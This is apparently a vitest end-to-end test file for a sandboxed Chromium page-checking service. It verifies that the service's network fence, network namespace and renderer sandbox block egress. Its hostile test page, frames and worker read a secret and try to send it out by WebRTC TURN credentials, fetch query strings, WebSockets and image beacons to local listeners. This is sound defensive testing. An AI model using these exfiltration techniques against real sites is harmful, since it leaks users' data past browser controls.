// The network fence of the sandbox browser (issue 21 cases 2 and 7), end to end: the real service on
// 127.0.0.1, real Chromium behind it, and loopback listeners on ports that are not allowed. Submitted HTML
// (its same-origin and cross-origin iframes, an iframe it makes itself, and a worker) tries WebRTC (STUN and
// TURN to a UDP port, TURN over TCP), fetch / WebSocket / <img> to a TCP port and fetch to another loopback
// web server, carrying content read from the allowed origin. Nothing may arrive; what the fence refused
// shows in the verdict; the allowed origin's CSS and images still load; the renderer runs in Chromium's
// sandbox, as an unprivileged user, in a network namespace of its own.
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { mkdtempSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createService, type Service } from '../../crawler/service/server.js';
import { mergeServiceConfig } from '../../crawler/service/config.js';
import { egressRefusals, Sandbox } from '../../crawler/hook/sandbox.js';
import { FORWARDER_SOURCE, PROXY_PORT } from '../../crawler/hook/egress/forwarder.js';
import { checkSubmission } from '../../crawler/hook/check-submission.js';
import { loadPolicy } from '../../crawler/hook/policy.js';
import { launchBrowser } from '../../crawler/page/browser.js';
import { jaPage } from '../helpers/server.js';
import { recordingServer, type RecordingServer } from './site.js';
import { processTree, sleep, tcpListener, udpListener, type TcpListener, type UdpListener } from './fence-helpers.js';

const root = path.resolve(__dirname, '../..');
const fixture = (f: string) => readFileSync(path.join(root, 'tests/fixtures/pages', f), 'utf8');
const TOKEN = 'fence-token-0123456789abcdef';
const SECRET = 'naibu-preview-7f3a';

let site: RecordingServer; // the allowed origin, http://127.0.0.1:<port>
let site2: RecordingServer; // a second allowed origin on another site (localhost), for a cross-origin iframe
let foreign: RecordingServer; // a web server on loopback that is not allowed
let udp: UdpListener;
let tcp: TcpListener;
let service: Service;
let base: string;

/** What every frame and worker of the hostile page runs: read the allowed origin, then try to send it out. */
function attackScript(tag: string): string {
  return `(function () {
  var report = function (s) { try { (window.top || window).postMessage('${tag}:' + s, '*'); } catch (e) {} };
  fetch('${site.url}/secret.txt').then(function (r) { return r.text(); }).catch(function () { return 'none'; }).then(function (secret) {
    var PC = window.RTCPeerConnection || window.webkitRTCPeerConnection;
    if (!PC) return report('no-rtc');
    try {
      var pc = new PC({ iceServers: [
        { urls: 'stun:127.0.0.1:${udp.port}' },
        { urls: 'turn:127.0.0.1:${udp.port}?transport=udp', username: secret, credential: secret },
        { urls: 'turn:127.0.0.1:${tcp.port}?transport=tcp', username: secret, credential: secret }
      ] });
      pc.createDataChannel(secret);
      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
      report('rtc');
    } catch (e) { report('rtc-error'); }
  });
  fetch('http://127.0.0.1:${tcp.port}/${tag}-fetch?d=' + encodeURIComponent(document.title)).catch(function () {});
  fetch('${foreign.url}/${tag}-fetch').catch(function () {});
  try { new WebSocket('ws://127.0.0.1:${tcp.port}/${tag}-ws'); } catch (e) {}
  var img = new Image(); img.src = 'http://127.0.0.1:${tcp.port}/${tag}-img.png';
})();`;
}

// The worker says first whether it has WebRTC; then it tries to send the secret out and, after those
// requests have left, releases the page's held image: the page's load (and the audit) waits for its attempts.
const WORKER = () => `
postMessage('worker:' + (typeof RTCPeerConnection === 'undefined' && typeof RTCDataChannel === 'undefined' ? 'no-rtc' : 'rtc'));
var secret = '';
fetch('${site.url}/secret.txt').then(function (r) { return r.text(); }).then(function (t) { secret = t; }).catch(function () {}).then(function () {
  fetch('http://127.0.0.1:${tcp.port}/worker-fetch?d=' + secret).catch(function () {});
  fetch('${foreign.url}/worker-fetch?d=' + secret).catch(function () {});
  try { new WebSocket('ws://127.0.0.1:${tcp.port}/worker-ws'); } catch (e) {}
  fetch('${site.url}/release?key=worker').catch(function () {});
});`;

/** The hostile submission: the attack in the page, a same-origin iframe, a cross-origin iframe, an iframe it builds, and a worker. */
function hostilePage(): string {
  const collect = `var seen = [];
addEventListener('message', function (e) { if (typeof e.data === 'string' && /^[a-z]+:[a-z-]+$/.test(e.data)) { seen.push(e.data); seen.sort(); document.title = seen.join(' '); } });
var w = new Worker('/fence/worker.js'); w.onmessage = function (e) { seen.push(e.data); seen.sort(); document.title = seen.join(' '); };
var f = document.createElement('iframe'); f.title = '空'; document.body.appendChild(f);
var PC = f.contentWindow.RTCPeerConnection;
window.postMessage('blank:' + (PC ? 'rtc' : 'no-rtc'), '*');
if (PC) { try { var pc = new PC({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.port}' }] }); pc.createDataChannel('x'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }); } catch (e) {} }`;
  return jaPage(
    `<h1>公開前のお知らせ</h1>
<p>本文です。<img src="/logo.png" alt="県のロゴ"></p>
<iframe src="/fence/frame.html" title="同じオリジン"></iframe>
<iframe src="${site2.url}/fence/frame.html" title="別のオリジン"></iframe>
<img src="/slow.png?ms=5000" alt="読み込みの遅い図">
<img src="/hold.png?key=worker&amp;ms=8000" alt="作業スレッドが終わるまで待つ図">
<script>${collect}</script>
<script>${attackScript('main')}</script>`,
    { head: '<link rel="stylesheet" href="/style.css">' },
  );
}

const auth = { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' };
async function check(body: unknown): Promise<{ status: number; json: any }> {
  const res = await fetch(`${base}/api/v1/check`, { method: 'POST', headers: auth, body: JSON.stringify(body) });
  return { status: res.status, json: await res.json() };
}

beforeAll(async () => {
  udp = await udpListener();
  tcp = await tcpListener();
  foreign = await recordingServer();
  site = await recordingServer({ '/style.css': 'body { color: #222; }' });
  site2 = await recordingServer();
  site2.url = site2.url.replace('127.0.0.1', 'localhost');
  site.set('/secret.txt', SECRET, 'text/plain; charset=utf-8');
  site2.set('/secret.txt', SECRET, 'text/plain; charset=utf-8');
  site.set('/fence/frame.html', `<!doctype html><html lang="ja"><title>枠</title><p>枠</p><script>${attackScript('frame')}</script>`);
  site2.set('/fence/frame.html', `<!doctype html><html lang="ja"><title>枠</title><p>枠</p><script>${attackScript('xframe')}</script>`);
  site.set('/fence/worker.js', WORKER(), 'text/javascript');
  const tmp = mkdtempSync(path.join(os.tmpdir(), 'jis-fence-'));
  const cfg = mergeServiceConfig({
    host: '127.0.0.1',
    port: 0,
    tokens: [TOKEN],
    origins: [site.url, site2.url],
    store: path.join(tmp, 'hook.sqlite'),
    reportsDir: path.join(tmp, 'reports'),
    limits: { bodyBytes: 300_000, requestTimeoutMs: 30_000, concurrency: 1, queueSize: 2 },
    schedules: [],
  });
  service = await createService(cfg, { log: () => {} });
  base = await service.listen();
});

afterAll(async () => {
  await service?.close();
  for (const s of [site, site2, foreign, udp, tcp]) await s?.close();
});

describe('the network fence (issue 21 case 2)', () => {
  it('lets nothing out by WebRTC, fetch, WebSocket or <img> from the page, its frames or a worker; the verdict lists what was refused', async () => {
    const r = await check({ html: hostilePage(), baseUrl: `${site.url}/kurashi/preview.html` });
    expect(r.status).toBe(200);
    await sleep(1_500); // late ICE retries and timers
    expect(udp.datagrams).toEqual([]);
    expect(tcp.connections).toEqual([]);
    expect(foreign.hits).toEqual([]);
    // WebRTC is gone from every frame and the worker (the title is what the page collected).
    for (const tag of ['main', 'frame', 'xframe', 'blank', 'worker']) expect(r.json.title).toContain(`${tag}:no-rtc`);
    expect(r.json.title).not.toMatch(/:rtc/);
    // What the page tried shows in fence.refused: by request interception and by the egress proxy.
    const refused: string[] = r.json.fence.refused;
    // (The page's own fetch and WebSocket are stopped earlier still, by its CSP, and never become requests.)
    expect(refused).toContain(`http://127.0.0.1:${tcp.port}/main-img.png`);
    expect(refused).toContain(`${foreign.url}/frame-fetch`);
    expect(refused).toContain(`${foreign.url}/xframe-fetch`);
    // A worker's requests under request interception sometimes stall in Chromium (puppeteer #4208): then
    // nothing leaves either (foreign.hits above). When the worker got through, its attempt is listed.
    if (site.hits.includes('/release?key=worker')) expect(refused).toContain(`${foreign.url}/worker-fetch?d=${SECRET}`);
    expect(refused).toContain(`CONNECT 127.0.0.1:${tcp.port}`); // the WebSockets, which interception does not see
    // The allowed origins still serve the page's CSS, images, iframes and worker.
    expect(site.hits).toEqual(expect.arrayContaining(['/style.css', '/logo.png', '/fence/frame.html', '/fence/worker.js', '/secret.txt']));
    expect(site2.hits).toContain('/fence/frame.html');
  });

  it('gives the same verdict through the fence as the unfenced browser did (clean and failing pages)', async () => {
    const policy = loadPolicy(undefined);
    const plain = new Sandbox({ launch: () => launchBrowser() });
    try {
      for (const [file, page] of [['03-procedure-clean.html', '/tetsuzuki/a.html'], ['02-news-barriers.html', '/news/1.html']]) {
        const target = { kind: 'html' as const, html: fixture(file), baseUrl: `${site.url}${page}` };
        const fenced = await check({ html: target.html, baseUrl: target.baseUrl });
        const unfenced = await checkSubmission(plain, target, { policy, allowedOrigins: [site.url], deadlineMs: 30_000, channel: 'cli' });
        const shape = (v: any) => ({ verdict: v.verdict, blocking: v.blocking.map((f: any) => `${f.ruleId} ${f.selector ?? ''}`).sort(), criteria: v.criteria.map((c: any) => `${c.id} ${c.outcome}`) });
        expect(shape(fenced.json)).toEqual(shape(unfenced));
      }
    } finally {
      await plain.close();
    }
  });
});

describe('below request interception: the namespace and the egress proxy alone', () => {
  it('a page with no fence script and no interception still reaches nothing but the allowed origins; the proxy tells this context what it refused', async () => {
    const { refusals, candidates } = await service.sandbox.run(async (ctx) => {
      const page = await ctx.newPage();
      await page.goto(`${site.url}/secret.txt`);
      const candidates = await page.evaluate(async (udpPort: number, tcpPort: number, foreignUrl: string) => {
        const found: string[] = [];
        const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }, { urls: `turn:127.0.0.1:${tcpPort}?transport=tcp`, username: 'u', credential: 'p' }] });
        pc.onicecandidate = (e) => e.candidate && found.push(e.candidate.candidate);
        pc.createDataChannel('x');
        await pc.setLocalDescription(await pc.createOffer());
        await fetch(`http://127.0.0.1:${tcpPort}/raw`).catch(() => {});
        await fetch(`${foreignUrl}/raw`).catch(() => {});
        try {
          new WebSocket(`ws://127.0.0.1:${tcpPort}/raw-ws`);
        } catch {}
        await new Promise((r) => setTimeout(r, 2_000));
        return found;
      }, udp.port, tcp.port, foreign.url);
      return { refusals: egressRefusals(ctx), candidates };
    }, 30_000);
    await sleep(500);
    expect(udp.datagrams).toEqual([]);
    expect(tcp.connections).toEqual([]);
    expect(foreign.hits).toEqual([]);
    expect(candidates.filter((c) => / udp /i.test(c))).toEqual([]);
    expect(refusals).toEqual(expect.arrayContaining([`http://127.0.0.1:${tcp.port}/raw`, `${foreign.url}/raw`, `CONNECT 127.0.0.1:${tcp.port}`]));
  });

  it('from inside the namespace, UDP and TCP to the host reach nothing: only the forwarder listens there', async () => {
    await check({ html: jaPage('<h1>起動</h1><p>本文</p>'), baseUrl: `${site.url}/a.html` });
    const pid = service.sandbox.pid()!;
    const probe = `
      const dgram = require('dgram'), net = require('net');
      const s = dgram.createSocket('udp4');
      s.send('leak', ${udp.port}, '127.0.0.1', () => s.close());
      const tryConnect = (port) => new Promise((r) => { const c = net.connect(port, '127.0.0.1'); c.on('connect', () => { c.destroy(); r('open'); }); c.on('error', (e) => r(e.code)); });
      Promise.all([tryConnect(${tcp.port}), tryConnect(${new URL(site.url).port}), tryConnect(${PROXY_PORT})]).then((r) => console.log(JSON.stringify(r)));`;
    const out = execFileSync('nsenter', [`--net=/proc/${pid}/ns/net`, '--', process.execPath, '-e', probe], { encoding: 'utf8' });
    await sleep(500);
    expect(JSON.parse(out)).toEqual(['ECONNREFUSED', 'ECONNREFUSED', 'open']);
    expect(udp.datagrams).toEqual([]);
    expect(tcp.connections).toEqual([]);
  });
});

describe('the sandbox browser itself (issue 21 case 7)', () => {
  it('runs as an unprivileged user, in its own network namespace, with its renderers in seccomp-bpf and their own namespaces', async () => {
    expect((await check({ html: jaPage('<h1>起動</h1><p>本文</p>'), baseUrl: `${site.url}/a.html` })).status).toBe(200);
    const pid = service.sandbox.pid()!;
    expect(pid).toBeTruthy();
    const tree = processTree(pid);
    const browser = tree.find((p) => p.pid === pid)!;
    const renderers = tree.filter((p) => p.type === 'renderer');
    expect(renderers.length).toBeGreaterThan(0);
    expect(tree.some((p) => p.cmdline.includes('--no-sandbox'))).toBe(false);
    expect(browser.uid).not.toBe(0);
    expect(browser.netns).not.toBe(readlinkSync('/proc/self/ns/net'));
    // The DevTools pipe (fds 3 and 4 of Chromium) reaches Chromium alone: the forwarder holds neither end.
    const forwarder = tree.find((p) => p.cmdline.includes(FORWARDER_SOURCE.trim().slice(0, 40)))!;
    expect(forwarder).toBeTruthy();
    const fds = (p: number) => readdirSync(`/proc/${p}/fd`).map((fd) => { try { return readlinkSync(`/proc/${p}/fd/${fd}`); } catch { return ''; } });
    const devtools = [readlinkSync(`/proc/${pid}/fd/3`), readlinkSync(`/proc/${pid}/fd/4`)];
    expect(devtools.every((l) => /^(pipe|socket):/.test(l))).toBe(true); // Node's stdio pipes are socket pairs
    expect(fds(forwarder.pid).filter((l) => devtools.includes(l))).toEqual([]);
    for (const r of renderers) {
      expect(r.uid).not.toBe(0);
      expect(r.seccomp).toBe(2);
      expect(r.noNewPrivs).toBe(1);
      expect(r.userns).not.toBe(browser.userns);
      expect(r.netns).not.toBe(browser.netns);
    }
  });

  it('says so itself on chrome://sandbox', async () => {
    const text = await service.sandbox.run(async (ctx) => {
      const page = await ctx.newPage();
      await page.goto('chrome://sandbox');
      return page.evaluate(() => document.body.innerText);
    }, 20_000);
    expect(text).toMatch(/Seccomp-BPF sandbox\s+Yes/);
    expect(text).toMatch(/Network namespaces\s+Yes/);
    expect(text).toMatch(/You are adequately sandboxed/);
  });
});
